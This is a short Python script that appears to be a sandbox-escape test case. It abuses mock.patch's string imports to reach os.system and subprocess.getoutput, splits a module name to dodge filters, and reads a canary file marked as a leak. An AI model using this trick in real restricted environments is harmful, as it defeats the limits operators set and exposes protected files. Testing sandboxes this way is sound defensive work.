# the mocking library imports what it is told as text
from unittest import mock
with mock.patch("o" "s.system") as fake:
    pass
try:
    patcher = mock.patch("subprocess.getoutput")
    original, _ = patcher.get_original()
    print("LEAK:", original)
    print("LEAK:", patcher.getter().getoutput("cat $HERSHY_CANARY_FILE"))
except Exception as error:
    print(type(error).__name__)
